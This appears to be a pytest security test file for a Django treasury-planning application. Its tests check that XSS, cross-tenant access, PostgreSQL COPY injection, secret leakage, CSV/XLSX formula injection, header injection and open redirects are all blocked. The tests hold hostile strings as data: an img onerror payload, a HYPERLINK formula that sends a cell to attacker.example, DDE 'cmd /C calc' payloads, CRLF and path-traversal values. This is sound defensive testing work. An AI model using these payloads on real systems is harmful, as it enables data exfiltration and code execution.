"""Attacks on what was added on 1 Dec 2026 (settings pages, corrections, list downloads, plan governance, alert and
checklist texts rendered at display time, the COPY text-format import writer). One test per attack; each asserts the
safe outcome, so it fails if the hole is there. Every attack is a real request (or, for the import, a real upload
committed on PostgreSQL)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from auditlog.models import LogEntry
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from channels_app.models import Counterparty, LedgerEntry
from contingency import drills
from contingency.models import CashFlowLine, Webhook
from contingency.services import plan_approve, plan_save
from tests.conftest import _member
from tests.factories import (
    AlertFactory,
    AlertRobotFactory,
    CounterpartyFactory,
    FundingChannelFactory,
    LiquidityPoolFactory,
    ScenarioFactory,
)
from tests.web.contingency_pages import finished_run

pytestmark = pytest.mark.django_db

RAW_IMG = '<img src=x onerror="alert(document.domain)">'


def page(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


def inert(html: str) -> None:
    assert "<img src=x" not in html
    assert not re.search(r"<img[^>]*onerror", html, re.I)


# -- (1) user text reaching markup ------------------------------------------------------------------------------------


def test_an_alerts_message_values_are_escaped_on_the_alert_list_and_the_dashboard(company, viewer, web_as):
    """Alert messages are a template and values rendered with % at display time: the values are user text."""
    AlertFactory(
        company=company,
        indicator="lender_action",
        message_template="Open headroom is %(headroom)s, %(share)s of the %(limit)s limit of open lines.",
        message_params={"headroom": RAW_IMG, "share": "20%", "limit": RAW_IMG},
    )
    client = web_as(viewer)
    for url in ("/alerts/", "/"):
        html = page(client, url)
        inert(html)
    assert "&lt;img src=x" in page(client, "/alerts/")


def test_a_checklist_tasks_pool_name_is_escaped_on_the_drill_pages(company, analyst, web_as):
    pool = LiquidityPoolFactory(company=company, name=RAW_IMG, kind="money_market_fund", amount=Decimal("500000"))
    plan = plan_save(
        company=company, by=analyst, name="Playbook", trigger="on_shock",
        steps=[{"order": 1, "action": "liquidate_pool", "pool": pool, "lead_time_days": 3}],
    )  # fmt: skip
    run = finished_run(company, ScenarioFactory(company=company), plan)
    assert any(RAW_IMG in item.display_title for item in run.checklist.all())  # the hostile text does reach the task
    client = web_as(analyst)
    shown = ""
    for url in (f"/drills/{run.pk}/",):
        html = page(client, url)
        inert(html)
        shown += html
    assert "&lt;img src=x" in shown


def test_the_plan_diff_and_history_escape_descriptions_and_pool_names(company, analyst, treasurer, web_as):
    pool = LiquidityPoolFactory(company=company, name=RAW_IMG, kind="money_market_fund", amount=Decimal("500000"))
    plan = plan_save(
        company=company, by=analyst, name=RAW_IMG, trigger="on_shock", description="<b>first</b>",
        steps=[{"order": 1, "action": "liquidate_pool", "pool": pool, "lead_time_days": 3}],
    )  # fmt: skip
    plan_approve(plan=plan, by=treasurer, comment=RAW_IMG)
    plan_save(
        company=company, by=analyst, plan=plan, description=RAW_IMG,
        steps=[{"order": 1, "action": "liquidate_pool", "pool": pool, "lead_time_days": 5},
               {"order": 2, "action": "liquidate_pool", "pool": pool, "lead_time_days": 9}],
    )  # fmt: skip
    html = page(web_as(treasurer), f"/plans/{plan.pk}/")
    assert "Changes since the approved version" in html  # the diff is on the page
    inert(html)
    assert "<b>first</b>" not in html and "&lt;b&gt;first&lt;/b&gt;" in html


def test_names_on_the_settings_pages_and_success_messages_are_escaped(company, company_admin, analyst, web_as):
    Webhook.objects.create(company=company, name=RAW_IMG, url="https://erp.example.com/h", secret="s" * 40)
    AlertRobotFactory(company=company, name=RAW_IMG)
    client = web_as(company_admin)
    issued = client.post(reverse("settings:apikey-add"), {"name": RAW_IMG})
    assert issued.status_code == 200
    inert(issued.content.decode())
    for name in ("settings:apikey-list", "contingency:webhook-list", "contingency:alertrobot-list"):
        html = page(client, reverse(name))
        inert(html)
        assert "&lt;img src=x" in html  # the name is there, as text
    for name in ("settings:member-list", "settings:index", "exports", "contingency:alert-emails"):
        inert(page(client, reverse(name)))
    # A correction's message names the object: archive a counterparty called <img …>.
    lender = CounterpartyFactory(company=company, name=RAW_IMG)
    response = web_as(analyst).post(f"/counterparties/{lender.pk}/archive/", follow=True)
    assert response.status_code == 200
    inert(response.content.decode())
    assert "Archived &lt;img src=x" in response.content.decode()


# -- (2) roles and tenancy the generated tests do not see -------------------------------------------------------------


def test_admin_only_settings_are_refused_to_a_treasurer_on_get_too(company, treasurer, web_as):
    """The generated tests POST; webhooks, robots and API keys are an admin's to read as well (the API's rule)."""

    webhook = Webhook.objects.create(company=company, name="ERP", url="https://erp.example.com/h", secret="s" * 40)
    robot = AlertRobotFactory(company=company)
    client = web_as(treasurer)
    for url in (
        reverse("contingency:webhook-edit", args=[webhook.pk]),
        reverse("contingency:webhook-delete", args=[webhook.pk]),
        reverse("contingency:alertrobot-edit", args=[robot.pk]),
        reverse("contingency:alertrobot-delete", args=[robot.pk]),
        reverse("contingency:webhook-add"),
        reverse("settings:apikey-add"),
        reverse("settings:policy"),
        reverse("settings:member-add"),
    ):
        assert client.get(url).status_code == 403, url


def test_a_viewer_cannot_remove_another_member_nor_change_a_role_by_posting(company, viewer, analyst, web_as):
    other = analyst.memberships.get(company=company)
    client = web_as(viewer)
    assert client.post(reverse("settings:member-delete", args=[other.pk])).status_code == 403
    assert client.post(reverse("settings:member-edit", args=[other.pk]), {"role": "viewer"}).status_code == 403
    other.refresh_from_db()
    assert other.role == "analyst"


def test_an_admin_cannot_touch_another_companys_member_key_or_ledger_entry(
    company, other_company, company_admin, web_as
):
    from channels_app.services import channel_draw
    from financeplanner.apikeys import apikey_create

    theirs = _member(other_company, "analyst", "their-analyst").memberships.get(company=other_company)
    key = apikey_create(company=other_company, name="Theirs", by=None).key
    entry = channel_draw(
        channel=FundingChannelFactory(company=other_company, counterparty=CounterpartyFactory(company=other_company)),
        amount=Decimal("100.00"), date=date(2026, 2, 1), by=None,
    )  # fmt: skip
    client = web_as(company_admin)
    assert client.post(reverse("settings:member-edit", args=[theirs.pk]), {"role": "admin"}).status_code == 404
    assert client.post(reverse("settings:member-delete", args=[theirs.pk])).status_code == 404
    assert client.post(reverse("settings:apikey-revoke", args=[key.pk])).status_code == 404
    assert client.post(f"/ledger/{entry.pk}/reverse/").status_code == 404
    theirs.refresh_from_db()
    key.refresh_from_db()
    assert (
        theirs.role == "analyst" and key.revoked_at is None and not LedgerEntry.objects.filter(reverses=entry).exists()
    )


# -- (3) the COPY text-format import writer ---------------------------------------------------------------------------

# Each is a name COPY's text format would read as something else if it were written unescaped: the end-of-data
# marker, NULL, a tab (a column), a newline (a row), escapes of escapes, and text PostgreSQL takes as is.
COPY_HOSTILE = [
    "\\.",
    "\\N",
    "a\\.\nb",
    "x\tfake-category\t-999\t2026-01-01\ny",
    "\\\\N\t\\",
    "\\t\\n\\r\\\\",
    "C:\\new\\table",
    "a\u2028b\u2029c\x85d",
    "esc\x1b[31mred",
    "回车\r\n换行",
    "é\\" * 100,  # 200 characters: the longest a name may be
]


def upload(client, dataset: str, content: bytes, name: str = "upload.csv"):
    file = SimpleUploadedFile(name, content, content_type="text/csv")
    return client.post(f"/api/v1/imports/{dataset}/", {"file": file, "commit": "true"}, format="multipart")


def csv_bytes(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


@pytest.mark.parametrize("name", COPY_HOSTILE, ids=range(len(COPY_HOSTILE)))
def test_copy_text_format_stores_hostile_text_exactly_and_injects_no_row_or_column(name, company, analyst, api_as):
    """One hostile value a file, between two plain rows: a value that broke COPY would send the import to its
    row-by-row fallback and hide what a silently misread one does, so each stands alone."""
    rows = [["name", "category", "amount", "start_date"], ["Before", "c\\N", "-1.50", "2026-01-01"]]
    rows += [[name, name[:100], "-1.50", "2026-01-01"], ["After", "c", "-1.50", "2026-01-01"]]
    response = upload(api_as(analyst), "cash-flows", csv_bytes(rows))
    assert response.status_code == 201, response.json()
    stored = list(CashFlowLine.objects.for_company(company).order_by("id"))
    assert [(line.name, line.category) for line in stored] == [
        ("Before", "c\\N"),
        (name, name[:100].strip()),
        ("After", "c"),
    ]  # no row injected, none lost, every column where it belongs
    assert {line.amount for line in stored} == {Decimal("-1.50")}
    assert {line.start_date for line in stored} == {date(2026, 1, 1)}
    for line in stored:  # and their audit entries
        [entry] = LogEntry.objects.get_for_object(line)
        assert entry.object_repr == line.name and entry.changes_dict["name"] == ["None", line.name]
        assert entry.changes_dict["category"] == ["None", line.category]


def test_copy_text_format_takes_hostile_counterparty_notes_exactly(company, analyst, api_as):
    notes = ["line\\.\n\\.\nend", "\\N", "\t\\\ttab"]
    rows = [["name", "kind", "country", "notes"]] + [[f"Bank {i}", "bank", "CN", n] for i, n in enumerate(notes)]
    response = upload(api_as(analyst), "counterparties", csv_bytes(rows))
    assert response.status_code == 201, response.json()
    stored = list(Counterparty.objects.for_company(company).order_by("id").values_list("name", "notes"))
    # The cell's outer whitespace is trimmed (documented: "\t\\\ttab" keeps what is inside).
    assert stored == [("Bank 0", notes[0]), ("Bank 1", "\\N"), ("Bank 2", "\\\ttab")]


def test_a_nul_byte_in_a_csv_value_refuses_the_row_naming_it_and_stores_nothing(company, analyst, api_as):
    rows = [["name", "category", "amount", "start_date"], ["ok", "c", "-1", "2026-01-01"]]
    rows += [["a\x00b", "c", "-1", "2026-01-01"]]
    response = upload(api_as(analyst), "cash-flows", csv_bytes(rows))
    assert response.status_code == 400
    assert response.json()["errors"] == [{"row": 3, "column": "name", "message": "Null characters are not allowed."}]
    assert not CashFlowLine.objects.exists()


@pytest.mark.parametrize(
    "content",
    [
        b"name,category,amount,start_date\n\xed\xa0\x80x,c,-1,2026-01-01\n",  # a UTF-8-encoded lone surrogate
        b"name,category,amount,start_date\n\xff\xfe\x00x,c,-1,2026-01-01\n",  # neither UTF-8 nor GB18030
    ],
    ids=["surrogate", "not-utf8"],
)
def test_a_csv_that_is_not_text_is_refused_with_a_clear_error(content, company, analyst, api_as):
    response = upload(api_as(analyst), "cash-flows", content)
    assert response.status_code == 400
    [error] = response.json()["errors"]
    assert error["message"].startswith("The CSV file is neither UTF-8 nor GB18030/GBK text")
    assert not CashFlowLine.objects.exists()


def test_a_value_longer_than_its_field_is_refused_not_truncated(company, analyst, api_as):
    rows = [["name", "category", "amount", "start_date"], ["\\" * 201, "c", "-1", "2026-01-01"]]
    response = upload(api_as(analyst), "cash-flows", csv_bytes(rows))
    assert response.status_code == 400
    assert response.json()["errors"] == [
        {"row": 2, "column": "name", "message": "Ensure this field has no more than 200 characters."}
    ]
    assert not CashFlowLine.objects.exists()


# -- (4) secrets shown once -------------------------------------------------------------------------------------------


def _everything_an_admin_reads(client, company) -> str:
    urls = [reverse(name) for name in ("settings:apikey-list", "contingency:webhook-list", "settings:index",
                                       "exports", "contingency:alertrobot-list", "settings:member-list")]  # fmt: skip
    urls += [reverse("contingency:webhook-edit", args=[w.pk]) for w in Webhook.objects.for_company(company)]
    shown = "".join(page(client, url) for url in urls)
    for dataset in ("channels", "counterparties", "alerts", "drill-schedules"):
        response = client.get(reverse("export-download", args=[dataset]), {"format": "csv"})
        shown += b"".join(response.streaming_content).decode()
    return shown


def test_an_api_key_and_a_webhook_secret_are_in_no_page_audit_entry_or_export_after_creation(
    company, company_admin, web_as
):
    client = web_as(company_admin)
    issued = client.post(reverse("settings:apikey-add"), {"name": "SAP"})
    plain = re.search(r'value="(fp_[0-9a-f]{8}\.[^"]+)"', issued.content.decode()).group(1)
    created = client.post(reverse("contingency:webhook-add"), {"name": "ERP", "url": "https://erp.example.com/h"})
    webhook = Webhook.objects.get(company=company)
    assert webhook.secret in created.content.decode() and created["Cache-Control"] == "no-store"
    # An edit posted with an error re-renders the form: still no secret.
    refused = client.post(reverse("contingency:webhook-edit", args=[webhook.pk]), {"name": "", "url": "x"})
    shown = _everything_an_admin_reads(client, company) + refused.content.decode()
    for secret in (plain, plain.partition(".")[2], webhook.secret):
        assert secret not in shown
        assert not LogEntry.objects.filter(changes_text__contains=secret).exists()
        assert not [e for e in LogEntry.objects.all() if secret in str(e.changes) + str(e.serialized_data)]


def test_a_robots_token_and_signing_secret_are_never_shown_back(company, company_admin, web_as):
    robot = AlertRobotFactory(
        company=company, kind="dingtalk", url="https://oapi.dingtalk.com/robot/send?access_token=tok-3f9a7c",
        secret="SECsigning-5e1d",
    )  # fmt: skip
    client = web_as(company_admin)
    shown = page(client, reverse("contingency:alertrobot-list"))
    shown += page(client, reverse("contingency:alertrobot-edit", args=[robot.pk]))
    shown += client.post(reverse("contingency:alertrobot-edit", args=[robot.pk]), {"name": ""}).content.decode()
    assert "tok-3f9a7c" not in shown and "SECsigning-5e1d" not in shown


# -- (5) formula injection in the new export datasets -----------------------------------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


@pytest.fixture
def formula_book(company, treasurer):
    CounterpartyFactory(company=company, name=FORMULA, country="CN")
    scenario = ScenarioFactory(company=company, name="+cmd|' /C calc'!A0")
    drills.schedule_save(company=company, by=treasurer, name="@SUM(1+9)*cmd|' /C calc'!A0", scenario=scenario,
                         cron="0 6 * * 1")  # fmt: skip
    return company


@pytest.mark.parametrize(
    ("dataset", "column", "expected"),
    [
        ("counterparties", "name", "'" + FORMULA),
        ("scenarios", "name", "'+cmd|' /C calc'!A0"),
        ("drill-schedules", "name", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("drill-schedules", "scenario_name", "'+cmd|' /C calc'!A0"),
    ],
)
def test_formula_text_in_the_new_datasets_is_quoted_in_csv_and_text_in_xlsx(
    dataset, column, expected, formula_book, viewer, web_as
):
    client = web_as(viewer)
    url = reverse("export-download", args=[dataset])
    body = b"".join(client.get(url, {"format": "csv", "archived": ""}).streaming_content).decode()
    assert [row[column] for row in csv.DictReader(io.StringIO(body))] == [expected]
    workbook = b"".join(client.get(url, {"format": "xlsx", "archived": ""}).streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    [cell] = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
    assert cell.data_type == "s" and cell.value == expected


# -- (6) the exports download endpoint --------------------------------------------------------------------------------


def test_the_download_refuses_unknown_datasets_and_formats_and_names_its_file_itself(company, viewer, web_as):
    client = web_as(viewer)
    assert client.get("/exports/..%2F..%2Fsettings/download/").status_code == 404
    assert client.get(reverse("export-download", args=["webhooks"])).status_code == 404
    for fmt in ("json", "csv\r\nSet-Cookie: a=b", "../../x"):
        response = client.get(reverse("export-download", args=["channels"]), {"format": fmt})
        assert response.status_code == 400 and "Set-Cookie" not in response
    response = client.get(reverse("export-download", args=["channels"]), {"format": "csv", "filename": 'x"\r\nA: b'})
    assert re.fullmatch(
        rf'attachment; filename="{company.slug}-channels-\d{{8}}T\d{{6}}Z\.csv"', response["Content-Disposition"]
    )
    assert response["Cache-Control"] == "no-store"


def test_no_filter_of_the_download_reaches_another_companys_rows(company, other_company, viewer, web_as):
    mine = FundingChannelFactory(company=company, counterparty=CounterpartyFactory(company=company), name="Mine")
    their_lender = CounterpartyFactory(company=other_company, name="Their bank")
    theirs = FundingChannelFactory(company=other_company, counterparty=their_lender, name="Theirs")
    client = web_as(viewer)
    for params in ({"company": other_company.pk}, {"counterparty": their_lender.pk}, {"id": theirs.pk},
                   {"name": "Theirs"}, {"archived": ""}):  # fmt: skip
        for dataset in ("channels", "counterparties", "ledger"):
            response = client.get(reverse("export-download", args=[dataset]), {"format": "csv", **params})
            body = b"".join(response.streaming_content).decode() if response.status_code == 200 else ""
            assert "Their bank" not in body and "Theirs" not in body, (dataset, params)
    body = b"".join(client.get(reverse("export-download", args=["channels"])).streaming_content).decode()
    assert "Mine" in body and mine.counterparty.name in body


# -- (7) open redirects -----------------------------------------------------------------------------------------------


def test_the_new_post_pages_ignore_a_next_parameter_to_another_site(company, analyst, company_admin, web_as):
    lender = CounterpartyFactory(company=company)
    evil = {"next": "https://attacker.example/", "success_url": "//attacker.example/"}
    analyst_client, admin_client = web_as(analyst), web_as(company_admin)
    for client, url, data in (
        (analyst_client, f"/counterparties/{lender.pk}/archive/?next=https://attacker.example/", evil),
        (analyst_client, f"/counterparties/{lender.pk}/restore/?next=//attacker.example/", evil),
        (admin_client, reverse("contingency:alert-emails") + "?next=https://attacker.example/",
         {"alert_emails": "yes", **evil}),
        (admin_client, reverse("settings:policy") + "?next=https://attacker.example/", evil),
    ):  # fmt: skip
        response = client.post(url, data)
        location = response.get("Location", "")
        assert "attacker.example" not in location, (url, location)


@pytest.mark.parametrize("api", [False, True], ids=["download", "api"])
def test_a_filter_naming_another_companys_row_is_refused_as_one_that_does_not_exist(
    api, company, other_company, viewer, web_as, api_as
):
    """Filters are a cross-company oracle if another company's id is a valid choice (an empty answer) while an id
    that exists nowhere is a 400: the two must be answered alike."""
    their_lender = CounterpartyFactory(company=other_company)
    their_scenario = ScenarioFactory(company=other_company)
    mine = CounterpartyFactory(company=company)
    answers = []
    for dataset, name, value in (("channels", "counterparty", their_lender.pk), ("channels", "counterparty", 987654),
                                 ("drills", "scenario", their_scenario.pk), ("drills", "scenario", 987654)):  # fmt: skip
        if api:
            response = api_as(viewer).get(f"/api/v1/{dataset}/", {name: value})
        else:
            response = web_as(viewer).get(reverse("export-download", args=[dataset]), {"format": "csv", name: value})
        answers.append((response.status_code, response.content))
    assert answers[0] == answers[1] and answers[2] == answers[3]
    assert answers[0][0] == 400
    own = (
        api_as(viewer).get("/api/v1/channels/", {"counterparty": mine.pk})
        if api
        else web_as(viewer).get(
            reverse("export-download", args=["channels"]), {"format": "csv", "counterparty": mine.pk}
        )
    )
    assert own.status_code == 200  # the company's own row is still a choice


@pytest.mark.parametrize("api", [False, True], ids=["page", "api"])
def test_a_retired_plan_cannot_be_approved_back_into_use_by_a_crafted_post(
    api, company, analyst, treasurer, web_as, api_as
):
    """The plan page offers no approval for a retired plan (restore it, then approve): the approve URL must refuse
    it too, or a POST would bring a retired plan back as approved without its restore."""
    from contingency.services import plan_archive

    pool = LiquidityPoolFactory(company=company, kind="money_market_fund", amount=Decimal("500000"))
    plan = plan_save(
        company=company, by=analyst, name="Old playbook", trigger="on_shock",
        steps=[{"order": 1, "action": "liquidate_pool", "pool": pool, "lead_time_days": 3}],
    )  # fmt: skip
    plan_archive(plan=plan, by=analyst)
    if api:
        response = api_as(treasurer).post(f"/api/v1/plans/{plan.pk}/approve/", {"comment": ""}, format="json")
        assert response.status_code == 400
    else:
        response = web_as(treasurer).post(reverse("contingency:plan-approve", args=[plan.pk]), follow=True)
        assert "restore it" in response.content.decode()
    plan.refresh_from_db()
    assert plan.status == "retired" and plan.approved_by is None
